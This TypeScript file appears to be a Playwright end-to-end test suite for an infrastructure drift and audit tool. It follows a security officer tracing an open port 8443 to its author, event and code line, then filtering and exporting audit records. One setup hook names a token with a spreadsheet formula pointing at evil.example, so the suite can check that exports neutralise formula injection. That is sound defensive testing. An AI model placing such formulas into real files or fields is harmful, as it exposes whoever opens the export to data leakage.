import { expect, open, signIn, test } from '@/e2e/journey';
import { expectPast, figuresOf, lookAtDay, rowsSaid } from '@/e2e/look-at';
import { people } from '@/e2e/people';
import { expectNoFormula, savedList } from '@/e2e/saved-list';

const day = 24 * 60 * 60 * 1000;
const openGroup = 'ehr-app-edge';

test.describe('a security officer learns who opened a port, and takes the proof away', () => {
  test('from a figure to the rule, the person, the event and the line of code', async ({ page }) => {
    await signIn(page, 'security-officer');
    const figure = (await figuresOf(page, 'Fleet health in figures')).get('Open drift');
    await page
      .getByRole('region', { name: 'Fleet health in figures' })
      .getByRole('link', { name: /Open drift/ })
      .click();
    await expect(page.getByRole('heading', { level: 1, name: 'Drift' })).toBeVisible();
    expect(await rowsSaid(page, 'groups')).toBe(figure);

    await page.getByRole('table', { name: 'Drift' }).getByRole('link', { name: openGroup }).click();
    await expect(page.getByRole('heading', { level: 1, name: openGroup })).toBeVisible();
    const sentence = page.getByRole('note').filter({ hasText: 'Cloud ahead' });
    await expect(sentence).toContainText(/on 1 rule since .*, through d\.okafor\. The next enforcing run would close/);

    const rule = page.getByRole('region', { name: 'Ingress' }).getByRole('listitem').filter({ hasText: '8443' });
    await expect(rule).toContainText('not in code');
    await expect(rule).toContainText('Undeclared');
    await expect(rule).toContainText(/0\.0\.0\.0\/0.*cloud ahead, .* by d\.okafor/);
    const code = page.getByRole('region', { name: 'Code that speaks for this group' });
    await expect(code).toContainText(/roles\/network\/tasks\/ehr\.yml@[0-9a-f]{7}/);
    const place = page
      .getByRole('region', { name: 'Ingress' })
      .getByTitle(/^roles\/network\/tasks\/ehr\.yml:\d+$/)
      .first();
    const line = (await place.innerText()).replace(/.*:/, '');
    await expect(code.locator('[data-mark="here"]').filter({ hasText: line }).first()).toBeVisible();
    await expect(page.getByRole('region', { name: 'Declared, applied, observed' })).toContainText(/[0-9a-f]{7}/);

    const evidence = page
      .getByRole('region', { name: 'Why we say so' })
      .getByRole('listitem')
      .filter({ hasText: '8443' });
    await expect(evidence).toContainText(/Certain.*CloudTrail AuthorizeSecurityGroupIngress by d\.okafor/);
    await evidence.getByRole('link', { name: /^event/ }).click();
    await expect(page.getByRole('link', { name: 'In the estate' })).toHaveAttribute('aria-current', 'page');
    const events = page.getByRole('table', { name: 'Events in the estate' });
    await expect(events.locator('tbody tr')).toHaveCount(1);
    await expect(events).toContainText(/d\.okafor.*ec2:AuthorizeSecurityGroupIngress/s);
    await events.getByRole('link', { name: 'Open' }).click();
    await expect(page.getByRole('figure', { name: 'Request and answer' })).toContainText('8443');
  });

  test.describe('what was not yet done on a day', () => {
    test.use({ person: 'security-officer' });

    test('is not there as of that day, and back again with one click', async ({ page }) => {
      await open(page, '/drift');
      const drift = page.getByRole('table', { name: 'Drift' });
      await drift.getByRole('link', { name: openGroup }).click();
      const since = page.getByRole('note').filter({ hasText: 'Cloud ahead' }).locator('time').first();
      const opened = new Date((await since.getAttribute('datetime')) ?? '');
      await page.getByRole('navigation', { name: 'Breadcrumb' }).getByRole('link', { name: 'Drift' }).click();
      await expect(drift).toContainText(openGroup);

      await lookAtDay(page, new Date(opened.getTime() - day));
      await expect(page.getByRole('heading', { level: 1, name: 'Drift' })).toBeVisible();
      await expect(drift.getByRole('link').first()).toBeVisible();
      await expect(drift).not.toContainText(openGroup);
      await page.getByRole('link', { name: 'Back to now' }).click();
      await expect(drift).toContainText(openGroup);
      await expect(page.getByText('You see the fleet as of')).toHaveCount(0);
    });
  });
});

test.describe('a security officer reads who did what, with before and after', () => {
  test.use({ person: 'security-officer' });
  const formula = `=HYPERLINK("http://evil.example/${Date.now()}")`;

  test.beforeAll(async ({ browser, baseURL }) => {
    const page = await browser.newPage(baseURL ? { baseURL } : {});
    await signIn(page, 'administrator');
    await open(page, '/settings/tokens');
    await page.locator('summary').getByText('Make token').click();
    await page.getByLabel(/^Name/).fill(formula);
    await page.getByRole('button', { name: 'Make token' }).click();
    await expect(page.getByText('Copy the token now.')).toBeVisible();
    await page.close();
  });

  test('in Plumbline: filtered by actor, opened, and saved as a file that no spreadsheet runs', async ({ page }) => {
    await open(page, '/');
    await page.keyboard.press('g');
    await page.keyboard.press('a');
    await expect(page.getByRole('heading', { level: 1, name: 'Audit' })).toBeVisible();
    await page.getByRole('button', { name: 'Filter' }).click();
    const ada = page.getByRole('dialog', { name: 'Filter' }).getByRole('link', { name: people.administrator });
    await ada.click();
    await expect(page.getByRole('link', { name: `Remove the filter Actor ${people.administrator}` })).toBeVisible();
    const events = page.getByRole('table', { name: 'Events in Plumbline' });
    const actors = await events.locator('tbody tr td:nth-child(3)').allInnerTexts();
    expect(actors.length).toBeGreaterThan(1);
    for (const actor of actors) expect(actor).toContain(people.administrator);

    await page.getByRole('searchbox').fill(formula);
    await page.keyboard.press('Enter');
    await expect(events.locator('tbody tr')).toHaveCount(1);
    await events.getByRole('link', { name: 'Open' }).click();
    await expect(events).toContainText(/after .*ingest/);
    await expect(events).toContainText(/req_/);

    const rows = await savedList(page);
    expect(rows).toHaveLength(await rowsSaid(page, 'events'));
    expect(rows[0]?.object).toBe(`'${formula}`);
    expectNoFormula(rows);
  });

  test('in the estate: what a person did, and what they asked for', async ({ page }) => {
    await open(page, '/audit');
    await page.getByRole('navigation', { name: 'Record' }).getByRole('link', { name: 'In the estate' }).click();
    await expect(page).toHaveURL(/in=estate/);
    await expect(page.getByRole('table', { name: 'Events in the estate' })).toBeVisible();
    await page.getByRole('button', { name: 'Filter' }).click();
    await page
      .getByRole('dialog', { name: 'Filter' })
      .getByRole('link', { name: /d\.okafor/ })
      .click();
    await expect(page.getByRole('link', { name: 'Remove the filter Actor d.okafor' })).toBeVisible();
    const events = page.getByRole('table', { name: 'Events in the estate' });
    for (const row of await events.locator('tbody tr').allInnerTexts()) expect(row).toContain('d.okafor');
    await events
      .getByRole('row')
      .filter({ hasText: 'AuthorizeSecurityGroupIngress' })
      .first()
      .getByRole('link', { name: 'Open' })
      .click();
    await expect(page.getByRole('figure', { name: 'Request and answer' })).toContainText('ipPermissions');
    const rows = await savedList(page);
    expect(new Set(rows.map((row) => row.actor))).toEqual(new Set(['d.okafor']));
    expectNoFormula(rows);
  });

  test('the record itself is seen as of a day', async ({ page }) => {
    await open(page, '/audit?in=estate');
    const moment = new Date(Date.now() - 45 * day);
    await lookAtDay(page, moment);
    await expectPast(page);
    const stamps = page
      .getByRole('table', { name: 'Events in the estate' })
      .locator('tbody tr')
      .first()
      .locator('time');
    const latest = new Date((await stamps.first().getAttribute('datetime')) ?? '');
    expect(latest.getTime()).toBeLessThanOrEqual(moment.getTime() + day);
  });
});
